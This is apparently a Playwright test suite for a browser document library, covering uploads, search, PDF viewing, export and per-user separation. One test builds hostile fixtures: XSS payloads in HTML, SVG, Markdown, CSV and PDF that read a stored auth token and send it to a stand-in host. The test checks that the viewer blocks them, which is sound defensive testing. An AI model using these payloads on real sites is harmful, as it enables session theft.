import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { unzip } from '../unzip.ts'
import type { BuiltKeeper } from './built-keeper.ts'
import { expectNoViolations } from './expect-no-violations.ts'
import { expect, registerAndSignIn, signIn, test } from './fixtures.ts'

interface UploadFile {
  name: string
  mimeType: string
  buffer: Buffer
}
const createFile = (name: string, content: string, mimeType = 'text/plain'): UploadFile => ({
  name,
  mimeType,
  buffer: Buffer.from(content),
})
const getCard = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
const getSearchBox = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })

/** Opens Ada's empty library and waits for the shell's own requests. */
async function openLibrary(page: Page, keeper: BuiltKeeper) {
  const lastShellRequest = page.waitForRequest(/\/api\/events/)
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  await expect(page.getByText('No documents found')).toBeVisible()
  await lastShellRequest
  await page.waitForTimeout(500)
}

async function uploadFiles(page: Page, ...files: UploadFile[]) {
  await page.getByLabel('Choose documents').setInputFiles(files)
}
async function uploadAndWait(page: Page, ...files: UploadFile[]) {
  await uploadFiles(page, ...files)
  for (const { name } of files) await expect(getCard(page, name)).toBeVisible()
}
async function openDocument(page: Page, name: string) {
  await page.getByRole('button', { name: `View ${name}` }).click()
  const dialog = page.getByRole('dialog', { name })
  await expect(dialog).toBeVisible()
  return dialog
}

/** A real PDF of three pages with embedded fonts. */
async function createPdf(page: Page): Promise<Buffer> {
  const pdfPage = await page.context().newPage()
  const pageBreak = 'style="break-before: page"'
  await pdfPage.setContent(
    `<h1>Lease</h1><p>The boathouse clause.</p><p ${pageBreak}>The jetty too.</p><p ${pageBreak}>Signed.</p>`,
  )
  const pdf = await pdfPage.pdf()
  await pdfPage.close()
  return pdf
}

test('uploads show their progress, survive a reload and make no API call @long', async ({ page, keeper, context }) => {
  await openLibrary(page, keeper)
  const calls: string[] = []
  page.on('request', (request) => {
    if (new URL(request.url()).pathname.startsWith('/api/')) calls.push(`${request.method()} ${request.url()}`)
  })
  const files = [
    createFile('Choir list.txt', 'Who sings what.'),
    createFile('export.json', '{"moments":[1,2]}', 'application/json'),
    createFile('notes.md', '# Tides', ''),
  ]
  await uploadFiles(page, ...files)
  for (const { name } of files) {
    await expect(page.getByRole('progressbar', { name: `Upload of ${name}` })).toBeVisible()
    await expect(getCard(page, name)).toHaveCount(0)
  }
  for (const { name } of files) await expect(getCard(page, name)).toBeVisible()
  await expect(page.getByRole('list', { name: 'Uploads' })).toHaveCount(0)
  await expect(getCard(page, 'Choir list.txt')).toContainText(/text, 15 Bytes, \w{3} \d{1,2}, \d{4}/)
  await expect(page.getByText(/^Using .* of .*GB$/)).toBeVisible()

  const otherTab = await context.newPage()
  await otherTab.goto('/library')
  await expect(getCard(otherTab, 'notes.md')).toBeVisible()
  await page.getByRole('button', { name: 'Edit Choir list.txt' }).click()
  await page.getByLabel('Name').fill('Choir')
  await page.getByLabel('Description').fill('Autumn')
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Edit Choir list.txt' }).click()
  await expect(page.getByLabel('Description'), 'the typed text is still there').toHaveValue('Autumn')
  await page.getByLabel('Tags').fill(' a, b ,, c,d, e')
  await page.getByRole('button', { name: 'Save' }).click()
  await expect(getCard(page, 'Choir')).toContainText('+2 more')
  await expect(getCard(otherTab, 'Choir')).toContainText('Autumn')
  await otherTab.close()
  expect(calls).toEqual([])

  await page.reload()
  await expect(page.getByRole('article')).toHaveCount(3)
  await page.getByRole('button', { name: 'Markdown' }).click()
  await expect(page.getByRole('article')).toHaveCount(1)
  await page.getByText('List', { exact: true }).click()
  await page.reload()
  await expect(page.getByRole('radio', { name: 'List' })).toBeChecked()
  await expectNoViolations(page, 'documents in a list')
  await page.setViewportSize({ width: 390, height: 844 })
  await page.getByText('Cards', { exact: true }).click()
  await expectNoViolations(page, 'documents on a phone')
})

test('invalid files are refused, and duplicates are asked about @long', async ({ page, keeper }) => {
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  await uploadFiles(page, createFile('tool.exe', 'MZ', 'application/x-msdownload'))
  await expect(page.getByText('Unsupported file type. Please upload PDF, JSON, Markdown, or text files.')).toBeVisible()
  await page.getByRole('button', { name: 'Dismiss tool.exe' }).click()
  await uploadFiles(page, createFile('nothing.txt', ''))
  await expect(page.getByText('nothing.txt is empty. Choose a file with something in it.')).toBeVisible()
  await page.getByRole('button', { name: 'Dismiss nothing.txt' }).click()
  // Created in the page, because the test runner can't send this many bytes.
  await page.getByLabel('Choose documents').evaluate((input: HTMLInputElement) => {
    const dataTransfer = new DataTransfer()
    dataTransfer.items.add(new File([new Uint8Array(50 * 1024 * 1024 + 1)], 'large.txt', { type: 'text/plain' }))
    input.files = dataTransfer.files
    input.dispatchEvent(new Event('change', { bubbles: true }))
  })
  await expect(page.getByText('File size exceeds 50MB limit')).toBeVisible()
  await page.getByRole('button', { name: 'Dismiss large.txt' }).click()

  await uploadAndWait(page, createFile('a.txt', 'the same words'))
  await uploadFiles(page, createFile('b.txt', 'the same words'))
  await expect(page.getByText('This document is already in your library as “a.txt”.')).toBeVisible()
  await expect(getCard(page, 'b.txt')).toHaveCount(0)
  await page.getByRole('button', { name: 'Keep both' }).click()
  await expect(getCard(page, 'b.txt')).toBeVisible()

  await page.evaluate(() => {
    const put = IDBObjectStore.prototype.put
    // The previous document's text may still be on its way to its store.
    IDBObjectStore.prototype.put = function (this: IDBObjectStore, ...args: Parameters<IDBObjectStore['put']>) {
      if (this.name !== 'blobs') return put.apply(this, args)
      IDBObjectStore.prototype.put = put
      throw new DOMException('full', 'QuotaExceededError')
    }
  })
  await uploadFiles(page, createFile('c.txt', 'other words'))
  await expect(page.getByText('Upload failed. Please try again.')).toBeVisible()
  await expect(page.getByText('There’s no space left for documents in this browser.')).toBeVisible()
  await page.getByRole('button', { name: 'Try again' }).click()
  await expect(getCard(page, 'c.txt')).toBeVisible()
})

test('only the first of several dropped documents is taken, with a note @long', async ({ page, keeper }) => {
  await openLibrary(page, keeper)
  await page.evaluate(() => {
    const dataTransfer = new DataTransfer()
    for (const name of ['first.txt', 'second.txt', 'third.txt'])
      dataTransfer.items.add(new File([`in ${name}`], name, { type: 'text/plain' }))
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }))
  })
  const notice = page.getByText('Only the first of 3 dropped documents was added. Browse to add several.')
  await expect(notice).toBeVisible()
  await expect(getCard(page, 'first.txt')).toBeVisible()
  await uploadAndWait(page, createFile('second.txt', 'again'), createFile('third.txt', 'and again'))
  await expect(notice).toHaveCount(0)
  await expect(page.getByRole('article')).toHaveCount(3)
})

test('text in PDF, HTML and RTF is found, and a PDF is read page by page @long', async ({ page, keeper }) => {
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  const lease = { name: 'lease.pdf', mimeType: 'application/pdf', buffer: await createPdf(page) }
  await uploadAndWait(
    page,
    lease,
    createFile('garden.html', '<p>Kale in the second bed</p><script>kale()</script>', 'text/html'),
    createFile('letter.rtf', "{\\rtf1 Dear Ida, the caf\\'e9 is open.}", 'application/rtf'),
  )
  for (const [content, name] of [
    ['JETTY', 'lease.pdf'],
    ['second bed', 'garden.html'],
    ['café', 'letter.rtf'],
  ] as const) {
    await getSearchBox(page).fill(content)
    await expect(page.getByRole('article')).toHaveCount(1)
    await expect(getCard(page, name)).toContainText('In the text:')
    await expect(getCard(page, name).locator('mark')).toHaveText(content.split(' '), { ignoreCase: true })
  }
  await getSearchBox(page).fill('nothing has this')
  await expect(page.getByText('No documents found')).toBeVisible()
  await page.getByRole('button', { name: 'Show all' }).click()

  const dialog = await openDocument(page, 'lease.pdf')
  await expect(dialog.getByText('The boathouse clause.')).toBeAttached()
  await expect(dialog.getByRole('region', { name: 'Page 1' })).toHaveAttribute('aria-busy', 'false')
  const isDrawn = await dialog
    .locator('canvas')
    .first()
    .evaluate((canvas: HTMLCanvasElement) => {
      const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height / 2).data ?? []
      return pixels.some((value, index) => index % 4 === 0 && value < 100)
    })
  expect(isDrawn).toBe(true)
  await dialog.getByRole('region', { name: 'lease.pdf, 3 pages' }).focus()
  await page.keyboard.press('End')
  await expect(dialog.getByLabel('Page', { exact: true })).toHaveValue('3')
  await page.keyboard.press('+')
  await expect(dialog.getByText('125%')).toBeVisible()
  await expectNoViolations(page, 'a PDF')
  await page.reload()
  await expect(page.getByRole('dialog', { name: 'lease.pdf' }).getByText('The boathouse clause.')).toBeAttached()
})

test("a document with lost bytes doesn't stop the search in others @long", async ({ page, keeper }) => {
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  await uploadAndWait(page, createFile('harbour.txt', 'The jetty is closed.'))
  await uploadAndWait(page, createFile('lost.txt', 'Only this file says so.'))
  await getSearchBox(page).fill('Only this file')
  await expect(getCard(page, 'lost.txt')).toContainText('In the text:')
  await page.evaluate(async () => {
    const databases = await indexedDB.databases()
    const name = databases.find((database) => database.name?.startsWith('keeper-library-'))?.name ?? ''
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const opening = indexedDB.open(name)
      opening.onsuccess = () => resolve(opening.result)
      opening.onerror = () => reject(opening.error)
    })
    const change = db.transaction(['documents', 'blobs', 'texts'], 'readwrite')
    const allDocuments = change.objectStore('documents').getAll()
    allDocuments.onsuccess = () => {
      const lost = allDocuments.result.find((document) => document.name === 'lost.txt')
      change.objectStore('blobs').delete(lost.blobKey)
      change.objectStore('texts').clear()
    }
    await new Promise((resolve) => {
      change.oncomplete = resolve
    })
    db.close()
  })
  await page.reload()
  await getSearchBox(page).fill('jetty')
  await expect(getCard(page, 'harbour.txt')).toContainText('In the text:')
  await getSearchBox(page).fill('lost')
  await expect(getCard(page, 'lost.txt'), 'found by its name').toBeVisible()
})

test('hostile documents cannot steal the token or call home', async ({ page, keeper }) => {
  await openLibrary(page, keeper)
  const attackerUrl = 'https://home.example'
  const steal = `top.stolen=localStorage.getItem('keeper_token');fetch('${attackerUrl}/?'+top.stolen)`
  const html = `<style>@import "${attackerUrl}/a.css"</style><link rel=stylesheet href=${attackerUrl}/b.css><script>${steal}</script><meta http-equiv=refresh content="0;url=${attackerUrl}"><img src="${attackerUrl}/i.png" onerror="${steal}"><svg onload="${steal}"></svg><iframe src="javascript:${steal}"></iframe><a href="javascript:${steal}">press</a><form action=${attackerUrl}><button>send</button></form><p>harmless words</p>`
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${attackerUrl}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${attackerUrl})>>>>]>>endobj\ntrailer<</Root 1 0 R>>`
  const hostileFiles = [
    createFile('page.html', html, 'text/html'),
    createFile(
      'drawing.xml',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
      'text/xml',
    ),
    createFile(
      'notes.md',
      `harmless words\n\n![x](${attackerUrl}/m.png)\n\n[press](javascript:${steal})\n\n${html}`,
      'text/markdown',
    ),
    createFile('table.csv', `a,b\n=HYPERLINK("${attackerUrl}"),<img src=x onerror=${steal}>`, 'text/csv'),
    createFile('data.json', JSON.stringify({ __proto__: html, html }), 'application/json'),
    createFile('link.pdf', pdf, 'application/pdf'),
  ]
  const foreignRequests: string[] = []
  page.on('request', (request) => {
    const { protocol, origin, pathname } = new URL(request.url())
    const isAsset = origin === new URL(keeper.url).origin && pathname.startsWith('/assets/')
    if (!isAsset && protocol !== 'blob:' && protocol !== 'data:') foreignRequests.push(request.url())
  })
  await uploadAndWait(page, ...hostileFiles)
  for (const { name } of hostileFiles) {
    const dialog = await openDocument(page, name)
    if (name === 'page.html') await expect(page.frameLocator('iframe').getByText('harmless words')).toBeVisible()
    else if (name === 'link.pdf') await expect(dialog.getByRole('region', { name: 'Page 1' })).toBeVisible()
    else if (name === 'table.csv') await expect(dialog.getByRole('cell', { name: /HYPERLINK/ })).toBeVisible()
    else await expect(dialog.getByText(/harmless words|onload/).first()).toBeAttached()
    await expect(dialog.locator('a[href^="javascript:"], script, img, svg[onload]')).toHaveCount(0)
    await page.keyboard.press('Escape')
    await expect(dialog).toHaveCount(0)
  }
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  expect(foreignRequests).toEqual([])
})

test('a broken document says so and can be downloaded unchanged @long', async ({ page, keeper }) => {
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  await uploadAndWait(page, createFile('broken.pdf', 'no PDF at all', 'application/pdf'))
  const dialog = await openDocument(page, 'broken.pdf')
  await expect(dialog.getByText('Error loading document content')).toBeVisible()
  const downloading = page.waitForEvent('download')
  await dialog.getByRole('button', { name: 'Download' }).click()
  const download = await downloading
  expect(download.suggestedFilename()).toBe('broken.pdf')
  expect(await readFile(await download.path(), 'utf8')).toBe('no PDF at all')
  await dialog.getByRole('button', { name: 'Edit info' }).click()
  await expect(page.getByRole('dialog', { name: 'Edit document' }).getByLabel('Name')).toHaveValue('broken.pdf')
})

test('documents are selected, exported, deleted and restored by keyboard @long', async ({ page, keeper }) => {
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  await uploadAndWait(page, createFile('a.txt', 'words of a'), createFile('b.txt', 'words of b'))
  await page.getByRole('checkbox', { name: 'Select a.txt' }).focus()
  await page.keyboard.press('Space')
  await page.getByRole('button', { name: 'Select all 2' }).focus()
  await page.keyboard.press('Enter')
  await expect(page.getByText('2 documents selected')).toBeVisible()
  const downloading = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export as zip' }).press('Enter')
  const files = await unzip(await readFile(await (await downloading).path()))
  expect(String(files.get('a.txt'))).toBe('words of a')
  expect([...files.keys()].sort()).toEqual(['a.txt', 'b.txt', 'documents.json'])

  await page.getByRole('toolbar', { name: 'Selection' }).getByRole('button', { name: 'Delete' }).press('Enter')
  await expect(page.getByText('Are you sure you want to delete these 2 documents?')).toBeVisible()
  await page.getByRole('button', { name: 'Delete documents' }).press('Enter')
  await expect(page.getByText('No documents found')).toBeVisible()
  await expect(page.getByRole('region', { name: 'Documents' })).toBeFocused()
  await page.getByRole('button', { name: 'Undo' }).press('Enter')
  await expect(page.getByRole('article')).toHaveCount(2)
  await page.getByRole('button', { name: 'Delete a.txt' }).press('Enter')
  await expect(page.getByText('Are you sure you want to delete this document?')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.getByRole('button', { name: 'Delete a.txt' })).toBeFocused()
})

test('documents stay with their person after signing out @long', async ({ page, keeper, watch }) => {
  watch.expectEndOfSession()
  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
  await uploadAndWait(page, createFile('diary.txt', 'only for Ada'))
  await page
    .getByRole('button', { name: /sign out|log ?out/i })
    .first()
    .click()
  await expect(page).not.toHaveURL(/library/)
  await registerAndSignIn(page, keeper, 'ben', { path: '/library' })
  await expect(page.getByText('No documents found')).toBeVisible()
  await getSearchBox(page).fill('only for Ada')
  await expect(page.getByRole('article')).toHaveCount(0)
  await page
    .getByRole('button', { name: /sign out|log ?out/i })
    .first()
    .click()
  await expect(page).not.toHaveURL(/library/)
  await signIn(page, 'ada')
  await page.goto('/library')
  await expect(getCard(page, 'diary.txt')).toBeVisible()
})
